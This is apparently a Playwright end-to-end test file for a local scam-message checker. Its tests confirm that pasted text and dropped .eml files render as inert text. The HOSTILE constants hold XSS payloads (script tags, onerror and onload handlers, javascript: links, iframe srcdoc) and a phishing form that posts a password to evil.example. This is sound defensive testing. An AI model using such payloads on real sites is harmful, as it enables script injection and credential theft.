// End-to-end tests of `miwake serve` in a real browser: Debian's Chromium driven by
// playwright-core. Run by `cargo test` (crates/miwake-cli/tests/serve_e2e.rs), or by hand:
//
//   cd e2e && npm ci && node run.mjs                 # starts ../target/debug/miwake serve
//   MIWAKE_URL=http://127.0.0.1:8731/ node run.mjs    # against a running server
//   node run.mjs xss                                  # only the tests whose name has "xss"
//
// Environment: MIWAKE_URL (a running server), MIWAKE_BIN (binary to start otherwise),
// MIWAKE_CHROMIUM (default /usr/bin/chromium), MIWAKE_E2E_ARTIFACTS (screenshots; default
// ../target/e2e-artifacts). Exit status 0 when every test passed, 1 otherwise.

import { spawn } from 'node:child_process';
import { mkdirSync, mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join, resolve } from 'node:path';
import { fileURLToPath } from 'node:url';
import { chromium } from 'playwright-core';

const here = dirname(fileURLToPath(import.meta.url));
const root = resolve(here, '..');
const artifacts = resolve(process.env.MIWAKE_E2E_ARTIFACTS || join(root, 'target', 'e2e-artifacts'));
const chromiumPath = process.env.MIWAKE_CHROMIUM || '/usr/bin/chromium';
const only = process.argv[2] || '';

const SCAM_JA = [
  'いつもご利用ありがとうございます。',
  'ご注文番号 250-3918274-6630211 の商品について、星5レビューを書いていただければAmazonギフト券1000円分をプレゼントします。',
  '24時間以内にLINEで連絡してください。',
].join('\n');

const LATE_DELIVERY_JA = [
  'こんにちは。注文番号 250-1234567-7654321 の商品についてご連絡いたします。',
  'ご迷惑をおかけしております。配送が遅れており、到着予定日を過ぎております。',
  '追跡番号は Amazon の注文詳細からご確認いただけます。',
].join('\n');

// Every way a message could try to run code. If any of it ran, it would call
// window.__pwned (a Playwright binding) or trip a CSP violation.
const HOSTILE = [
  '星5レビューでAmazonギフト券をプレゼント！',
  '<script>window.__pwned("script")</script>',
  '<img src=x onerror="window.__pwned(\'img-onerror\')">',
  '<a id="evil-link" href="javascript:window.__pwned(\'javascript-link\')">ここをクリック</a>',
  '<svg onload="window.__pwned(\'svg-onload\')"></svg>',
  '<iframe srcdoc="<script>parent.__pwned(\'iframe\')</script>"></iframe>',
  '"><img src=x onerror=window.__pwned("attr-breakout")>',
  '<style>body{display:none}</style>',
  '<img src="https://tracker.example/pixel.gif">',
].join('\n');

const HOSTILE_EML = [
  'From: "Amazon.co.jp" <no-reply@amaz0n-security.top>',
  'To: buyer@example.jp',
  'Subject: =?UTF-8?B?44CQ6YeN6KaB44CR?= <script>window.__pwned("subject")</script>',
  'MIME-Version: 1.0',
  'Content-Type: text/html; charset=UTF-8',
  '',
  '<html><head><script>window.__pwned("html-head-script")</script></head><body onload="window.__pwned(\'body-onload\')">',
  '<p>アカウントが停止されました。24時間以内に<a href="javascript:window.__pwned(\'eml-javascript-link\')">こちら</a>からログインしてください。</p>',
  '<img src="https://tracker.example/open.gif" width="1" height="1">',
  '<form action="https://evil.example/steal"><input name="password"></form>',
  '<img src=x onerror="window.__pwned(\'eml-img-onerror\')">',
  '</body></html>',
].join('\r\n');

const tests = [];
function test(name, fn) {
  tests.push({ name, fn });
}

function assert(condition, message) {
  if (!condition) {
    throw new Error(message);
  }
}

async function startServerIfNeeded() {
  if (process.env.MIWAKE_URL) {
    return { url: process.env.MIWAKE_URL.replace(/\/?$/, '/'), stop: () => {} };
  }
  const bin = process.env.MIWAKE_BIN || join(root, 'target', 'debug', 'miwake');
  const dbDir = mkdtempSync(join(tmpdir(), 'miwake-e2e-db-'));
  const env = { ...process.env, MIWAKE_DB: join(dbDir, 'history.db') };
  const child = spawn(bin, ['serve', '--port', '0', '--no-open'], { stdio: ['ignore', 'pipe', 'inherit'], env });
  const url = await new Promise((resolveUrl, reject) => {
    let seen = '';
    const timer = setTimeout(() => reject(new Error(`${bin} printed no address in 60 s`)), 60000);
    child.on('error', reject);
    child.stdout.on('data', (chunk) => {
      seen += chunk;
      const m = seen.match(/http:\/\/127\.0\.0\.1:\d+\//);
      if (m) {
        clearTimeout(timer);
        resolveUrl(m[0]);
      }
    });
  });
  return {
    url,
    stop: () => {
      child.kill();
      rmSync(dbDir, { recursive: true, force: true });
    },
  };
}

/// A page that records anything a message could make happen.
async function watchedPage(context, base) {
  const page = await context.newPage();
  const events = { pwned: [], dialogs: [], violations: [], foreignRequests: [], pageErrors: [] };
  page.on('dialog', async (dialog) => {
    events.dialogs.push(dialog.message());
    await dialog.dismiss();
  });
  page.on('pageerror', (error) => events.pageErrors.push(String(error)));
  page.on('request', (request) => {
    const url = request.url();
    if (!url.startsWith(base) && !url.startsWith('data:') && !url.startsWith('blob:')) {
      events.foreignRequests.push(url);
    }
  });
  page.__events = events;
  return page;
}

function assertNothingRan(page, what) {
  const e = page.__events;
  assert(e.pwned.length === 0, `${what}: message code ran: ${JSON.stringify(e.pwned)}`);
  assert(e.dialogs.length === 0, `${what}: a dialog opened: ${JSON.stringify(e.dialogs)}`);
  assert(e.foreignRequests.length === 0, `${what}: the page fetched from elsewhere: ${JSON.stringify(e.foreignRequests)}`);
}

async function violations(page) {
  return page.evaluate(() => window.__cspViolations || []);
}

async function checkText(page, base, text, lang = 'ja') {
  await page.goto(`${base}?lang=${lang}`);
  await page.getByLabel(lang === 'ja' ? 'メッセージを貼り付け' : 'Paste the message').fill(text);
  await Promise.all([
    page.waitForURL(/\/result\//),
    page.getByRole('button', { name: lang === 'ja' ? '確認する' : 'Check' }).click(),
  ]);
}

async function dropFile(page, base, name, content) {
  await page.goto(base);
  const dataTransfer = await page.evaluateHandle(({ name, content }) => {
    const dt = new DataTransfer();
    dt.items.add(new File([content], name, { type: 'message/rfc822' }));
    return dt;
  }, { name, content });
  await Promise.all([
    page.waitForURL(/\/result\//),
    page.dispatchEvent('#drop-zone', 'drop', { dataTransfer }),
  ]);
}

async function shot(page, name, options = {}) {
  await page.screenshot({ path: join(artifacts, `${name}.png`), fullPage: true, ...options });
}

test('paste a Japanese scam: danger banner and highlighted phrase', async ({ context, base }) => {
  const page = await watchedPage(context, base);
  await page.goto(base);
  await shot(page, '01-check');
  await checkText(page, base, SCAM_JA);
  const banner = page.locator('#verdict');
  await banner.waitFor();
  assert(await banner.evaluate((el) => el.classList.contains('banner-danger')), 'banner is not the danger banner');
  assert((await page.locator('#verdict-level').innerText()).trim() === '危険', 'banner does not say 危険');
  const marks = page.locator('pre.message mark.ev');
  assert((await marks.count()) > 0, 'no highlighted evidence');
  const line = page.locator('pre.message mark.ev', { hasText: 'LINEで連絡' });
  assert((await line.count()) === 1, 'the phrase "LINEで連絡" is not highlighted');
  // The explanation is reachable: as a tooltip on hover/focus, and for screen readers.
  const tip = await line.getAttribute('data-tip');
  assert(tip && tip.includes('LINE'), `no explanation on the highlight: ${tip}`);
  const describedBy = await line.getAttribute('aria-describedby');
  const described = await page.locator(`#${describedBy.split(' ')[0]}`).innerText();
  assert(described.includes(tip.split(' / ')[0].slice(0, 10)), 'aria-describedby does not point at the explanation');
  await line.focus();
  const shown = await line.evaluate((el) => getComputedStyle(el, '::after').content);
  assert(shown.includes('LINE'), `focus shows no tooltip: ${shown}`);
  await shot(page, '02-result-danger');
  assertNothingRan(page, 'scam result');
  await page.close();
});

test('drop an .eml file: sender, links and danger', async ({ context, base }) => {
  const page = await watchedPage(context, base);
  const eml = readFileSync(join(root, 'fixtures', 'demo', 'scam-gift-card-review.eml'), 'utf8');
  await dropFile(page, base, 'scam-gift-card-review.eml', eml);
  assert(await page.locator('#verdict.banner-danger').isVisible(), 'no danger banner after the drop');
  const link = page.locator('#links li.link').first();
  assert((await link.locator('.link-domain').innerText()).includes('review-gift.top'), 'real domain not shown');
  assert(await link.locator('.badge-suspicious').isVisible(), 'link not marked as not genuine');
  assert((await page.locator('#links a').count()) === 0, 'a message link is clickable');
  assert((await page.locator('#sender').innerText()).includes('refund.desk.2024@gmail.com'), 'reply-to not shown');
  await shot(page, '03-result-eml');
  assertNothingRan(page, 'eml result');
  await page.close();
});

test('copy a reply', async ({ context, base }) => {
  const page = await watchedPage(context, base);
  await checkText(page, base, LATE_DELIVERY_JA);
  const reply = page.locator('#replies textarea').first();
  await reply.waitFor();
  const filled = await reply.inputValue();
  assert(filled.includes('250-1234567-7654321'), `reply not filled with the order number: ${filled}`);
  assert(!filled.includes('{'), `placeholder left in the reply: ${filled}`);
  await reply.fill(`${filled}\nよろしくお願いします。`);
  const edited = await reply.inputValue();
  await page.locator('#replies button.copy').first().click();
  await page.locator('#replies .copy-status').first().filter({ hasText: 'コピーしました' }).waitFor();
  const clipboard = await page.evaluate(() => navigator.clipboard.readText());
  assert(clipboard === edited, `clipboard holds ${JSON.stringify(clipboard)}, expected the edited reply`);
  await shot(page, '04-reply-copied');
  await page.close();
});

test('download a report for reportascam@amazon.com', async ({ context, base }) => {
  const page = await watchedPage(context, base);
  const eml = readFileSync(join(root, 'fixtures', 'demo', 'scam-gift-card-review.eml'), 'utf8');
  await dropFile(page, base, 'scam-gift-card-review.eml', eml);
  const section = page.locator('#report');
  const link = section.locator('[data-report-download]');
  assert((await link.count()) === 1, 'no report download link');
  const [download] = await Promise.all([page.waitForEvent('download'), link.click()]);
  assert(download.suggestedFilename().endsWith('.eml'), `report is not an .eml: ${download.suggestedFilename()}`);
  const text = readFileSync(await download.path(), 'utf8');
  assert(text.includes('To: reportascam@amazon.com'), 'report e-mail not addressed to reportascam@amazon.com');
  assert(text.includes('Content-Type: message/rfc822'), 'the original e-mail is not attached');
  assert((await section.innerText()).includes('reportascam@amazon.com'), 'no forwarding instructions');
  await section.scrollIntoViewIfNeeded();
  await shot(page, '05-report');
  assertNothingRan(page, 'report');
  await page.close();
});

async function assertHostileInert(page, what) {
  // Whatever runs by itself (script, onerror, onload) has run once the page has settled.
  await page.waitForTimeout(300);
  assertNothingRan(page, what);
  // Then try what a user might do: click the would-be link, hover and focus highlights.
  // (If the message managed to hide the page, these cannot be done; the checks below say why.)
  const quick = { timeout: 2000 };
  const click = page.getByText('ここをクリック').first();
  if ((await click.count()) > 0) {
    await click.click(quick).catch(() => {});
  }
  const marks = page.locator('mark.ev');
  for (let i = 0; i < Math.min(await marks.count(), 10); i++) {
    await marks.nth(i).hover(quick).catch(() => {});
    await marks.nth(i).focus(quick).catch(() => {});
  }
  await page.waitForTimeout(300);
  assertNothingRan(page, what);
  const injected = await page.evaluate(() =>
    document.querySelectorAll(
      'main script, main img, main iframe, main svg, main style, main form:not([action^="/"]), main a[href^="javascript:"], [onerror], [onload], #evil-link',
    ).length,
  );
  assert(injected === 0, `${what}: ${injected} element(s) from the message became markup`);
  const seen = await violations(page);
  assert(seen.length === 0, `${what}: markup from the message reached the page (CSP blocked it): ${JSON.stringify(seen)}`);
  assert(await page.locator('body').isVisible(), `${what}: the message's style hid the page`);
}

test('xss: a pasted message with script, img onerror and javascript: links runs nothing', async ({ context, base }) => {
  const page = await watchedPage(context, base);
  await checkText(page, base, HOSTILE);
  await assertHostileInert(page, 'pasted hostile text');
  const text = await page.locator('pre.message').innerText();
  assert(text.includes('<script>window.__pwned("script")</script>'), 'the script is not shown as text');
  assert(text.includes('javascript:'), 'the javascript: link is not shown as text');
  await shot(page, '06-xss-pasted');
  await page.close();
});

test('xss: a hostile HTML e-mail runs nothing and loads no remote image', async ({ context, base }) => {
  const page = await watchedPage(context, base);
  await dropFile(page, base, 'hostile.eml', HOSTILE_EML);
  await page.locator('#verdict').waitFor();
  await assertHostileInert(page, 'hostile e-mail');
  await shot(page, '07-xss-eml');
  await page.close();
});

test('english, keyboard, phone width', async ({ context, base }) => {
  const page = await watchedPage(context, base);
  await page.setViewportSize({ width: 375, height: 812 });
  await page.goto(base);
  await page.locator('#switch-language').click();
  await page.waitForURL(/lang=en/);
  assert((await page.locator('html').getAttribute('lang')) === 'en', 'no English page');
  assert(await page.getByLabel('Paste the message').isVisible(), 'the text box has no English label');
  // Keyboard: the first Tab reaches the skip link, which leads to the content.
  await page.keyboard.press('Tab');
  assert((await page.evaluate(() => document.activeElement.className)) === 'skip', 'first Tab is not the skip link');
  const overflow = await page.evaluate(() => document.documentElement.scrollWidth - window.innerWidth);
  assert(overflow <= 0, `the page scrolls sideways at phone width (${overflow}px)`);
  await shot(page, '08-check-phone-en');
  // Type and submit with the keyboard only.
  await page.getByLabel('Paste the message').focus();
  await page.keyboard.type('URGENT: your account will be suspended within 24 hours. Verify your password at http://amaz0n-verify.top/login');
  await page.keyboard.press('Tab');
  await page.keyboard.press('Tab');
  await Promise.all([page.waitForURL(/\/result\//), page.keyboard.press('Enter')]);
  assert(page.url().includes('/result/'), 'the keyboard submit did not reach a result');
  const level = await page.locator('#verdict-level').innerText();
  assert(['danger', 'caution'].includes(level.trim()), `English verdict is ${level}`);
  const overflowResult = await page.evaluate(() => document.documentElement.scrollWidth - window.innerWidth);
  assert(overflowResult <= 0, `the result scrolls sideways at phone width (${overflowResult}px)`);
  await shot(page, '09-result-phone-en');
  await page.close();
});

test('url check screen', async ({ context, base }) => {
  const page = await watchedPage(context, base);
  await page.goto(`${base}url`);
  await page.getByLabel('リンクのアドレス').fill('https://amazon-co-jp.shop/login');
  await Promise.all([page.waitForURL(/\/url\?/), page.getByRole('button', { name: '確認する' }).click()]);
  assert((await page.locator('.link-domain').first().innerText()).includes('amazon-co-jp.shop'), 'domain not shown');
  assert(await page.locator('.badge-suspicious').first().isVisible(), 'lookalike not marked');
  await shot(page, '10-url-check');
  assertNothingRan(page, 'url check');
  await page.close();
});

test('history: record a reply, see the order waiting for the seller, export it', async ({ context, base }) => {
  const page = await watchedPage(context, base);
  await checkText(page, base, LATE_DELIVERY_JA);
  const record = page.locator('#replies form button[type=submit]').first();
  assert((await record.count()) === 1, 'no "record that I replied" button');
  await Promise.all([page.waitForURL(/\/history\/order\/250-1234567-7654321/), record.click()]);
  const followUp = page.locator('#follow-up');
  assert(await followUp.evaluate((el) => el.classList.contains('waiting')), 'the order is not marked as waiting for the seller');
  assert((await followUp.innerText()).includes('出品者の返事待ち'), 'no "waiting for the seller" heading');
  const entries = page.locator('ol.timeline li');
  assert((await entries.count()) === 2, `timeline has ${await entries.count()} entries, expected the message and the reply`);
  assert((await entries.nth(0).getAttribute('class')).includes('entry-message'), 'the message is not first');
  assert((await entries.nth(1).innerText()).includes('返信した'), 'the reply is not recorded second');
  await shot(page, '12-history-timeline');
  const [download] = await Promise.all([page.waitForEvent('download'), page.locator('[data-export]').click()]);
  assert(download.suggestedFilename() === 'miwake-case-250-1234567-7654321.zip', `export named ${download.suggestedFilename()}`);
  const zip = readFileSync(await download.path());
  assert(zip.subarray(0, 2).toString() === 'PK', 'the export is not a zip file');
  await page.goto(`${base}history`);
  const order = page.locator('li.order', { hasText: '250-1234567-7654321' });
  assert(await order.evaluate((el) => el.classList.contains('waiting')), 'the overview does not highlight the waiting order');
  await shot(page, '11-history');
  assertNothingRan(page, 'history');
  await page.close();
});

async function main() {
  mkdirSync(artifacts, { recursive: true });
  const server = await startServerIfNeeded();
  const base = server.url;
  const profile = mkdtempSync(join(tmpdir(), 'miwake-e2e-'));
  let context;
  let failed = 0;
  try {
    context = await chromium.launchPersistentContext(profile, {
      executablePath: chromiumPath,
      headless: true,
      args: [
        '--no-sandbox',
        '--disable-gpu',
        '--disable-dev-shm-usage',
        '--disable-background-networking',
        '--disable-component-update',
        '--disable-sync',
        '--no-first-run',
      ],
      viewport: { width: 1100, height: 900 },
      locale: 'ja-JP',
      acceptDownloads: true,
    });
    const origin = new URL(base).origin;
    await context.grantPermissions(['clipboard-read', 'clipboard-write'], { origin });
    // Any code from a message that runs would call this.
    await context.exposeBinding('__pwned', ({ page }, what) => {
      if (page && page.__events) {
        page.__events.pwned.push(String(what));
      }
    });
    // Blocked markup still shows up here: a violation means it reached the DOM.
    await context.addInitScript(() => {
      window.__cspViolations = [];
      document.addEventListener('securitypolicyviolation', (e) => {
        window.__cspViolations.push(`${e.violatedDirective} ${e.blockedURI}`);
      });
    });
    // Works offline: anything not on our own origin is refused (and recorded by the pages).
    await context.route((url) => !url.href.startsWith(origin), (route) => route.abort());
    for (const { name, fn } of tests) {
      if (only && !name.includes(only)) {
        continue;
      }
      const started = Date.now();
      try {
        await fn({ context, base });
        console.log(`ok - ${name} (${Date.now() - started} ms)`);
      } catch (error) {
        failed += 1;
        console.log(`not ok - ${name}\n  ${String(error && error.stack ? error.stack : error).split('\n').join('\n  ')}`);
      }
    }
  } finally {
    if (context) {
      await context.close();
    }
    server.stop();
    rmSync(profile, { recursive: true, force: true });
  }
  console.log(`${failed === 0 ? 'PASS' : 'FAIL'}: ${failed} failed; screenshots in ${artifacts}`);
  process.exit(failed === 0 ? 0 : 1);
}

main().catch((error) => {
  console.error(error);
  process.exit(1);
});
